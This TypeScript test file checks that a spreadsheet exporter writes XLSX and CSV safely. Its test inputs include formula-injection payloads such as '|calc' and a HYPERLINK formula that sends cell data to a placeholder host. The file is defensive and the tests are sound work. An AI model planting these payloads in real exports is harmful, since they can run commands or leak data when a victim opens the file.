import assert from 'node:assert/strict';
import { test } from 'node:test';
import { unzipped } from '@/tests/sheets';
import { readSheetFile } from './file';
import { type WrittenSheet, writeCsv, writeXlsx } from './write';

const bytesOf = async (stream: ReadableStream<Uint8Array>) => Buffer.from(await new Response(stream).arrayBuffer());

const hostile = [
  ...['=1+1', '+86 138', '-2', '@SUM(A1)', '|calc', '＝1+1', '＋1', '－1', '＠A1', ' =1+1', '\t=1+1', '\r=1+1'],
  ...[
    '=HYPERLINK("http://e/"&A1)',
    "'=1",
    '0012',
    '1月2日',
    '110108199001011234',
    '<b>&"\'</b>',
    '两\n行',
    '"引"',
    'a,b;c',
  ],
];
const sheet = (rows: WrittenSheet['rows']): WrittenSheet => ({
  name: '户册/2026:[1]',
  columns: [
    { title: '内容', kind: 'text', width: 40 },
    { title: '数', kind: 'number' },
    { title: '日期', kind: 'date' },
  ],
  rows,
});
const day = new Date(Date.UTC(2026, 0, 2));

test('xlsx: every text is typed as text and formatted as text; numbers and dates are numbers and dates', async () => {
  const bytes = await bytesOf(writeXlsx(sheet(hostile.map((text) => [text, -5, day]))));
  const files = unzipped(bytes);
  const xml = files.get('xl/worksheets/sheet1.xml') ?? '';
  assert.ok(!/<f[ >]/.test(xml), 'a formula');
  const texts = [...xml.matchAll(/<c r="A\d+"([^>]*)>/g)].map(([, rest]) => rest ?? '');
  assert.equal(texts.length, hostile.length + 1);
  for (const rest of texts) assert.match(rest, /t="inlineStr"/);
  assert.match(files.get('xl/styles.xml') ?? '', /formatCode="@"/);
  assert.match(files.get('xl/workbook.xml') ?? '', /name="户册 2026 {2}1 "/);
  const [, ...lines] = await readSheetFile(bytes);
  assert.deepEqual(
    lines.map(({ cells }) => cells[0]?.text),
    hostile.map((text) => text.trim()),
  );
  assert.deepEqual(lines[0]?.cells.slice(1), [
    { text: '-5', kind: 'number' },
    { text: '2026-01-02', kind: 'date' },
  ]);
});

test('CSV: marked as UTF-8, and nothing begins as what a spreadsheet computes, full width or behind a blank', async () => {
  const bytes = await bytesOf(writeCsv(sheet(hostile.map((text) => [text, -5, day]))));
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  const fields = bytes
    .toString('utf8')
    .slice(1)
    .split('\r\n')
    .map((line) => line.replace(/^"/, ''));
  for (const field of fields) assert.ok(!/^\s*[=+\-@|＝＋－＠]/u.test(field), field);
  const [, ...lines] = await readSheetFile(bytes);
  assert.deepEqual(
    lines.map(({ cells }) => cells.map(({ text }) => text)),
    hostile.map((text) => [text === "'=1" ? '=1' : text.trim(), '-5', '2026-01-02']),
  );
});

test('what no file can hold is left out: control characters and halves of letters', async () => {
  const odd = 'a\u0000\u0007b\ud800c\ufffed𠮷';
  const [, xlsx] = await readSheetFile(await bytesOf(writeXlsx(sheet([[odd, null, null]]))));
  const [, csv] = await readSheetFile(await bytesOf(writeCsv(sheet([[odd, null, null]]))));
  assert.deepEqual([xlsx?.cells[0]?.text, csv?.cells[0]?.text], ['abcd𠮷', 'abcd𠮷']);
});

test('rows are taken as they are read, and not kept', async () => {
  let made = 0;
  async function* rows() {
    for (; made < 200_000; made += 1) yield [`第 ${made} 行，一些字`.repeat(4), made, day];
  }
  const reader = writeCsv(sheet(rows())).getReader();
  for (let n = 0; n < 3; n += 1) await reader.read();
  assert.ok(made < 20_000, `${made} rows made for three pieces`);
  await reader.cancel();
});
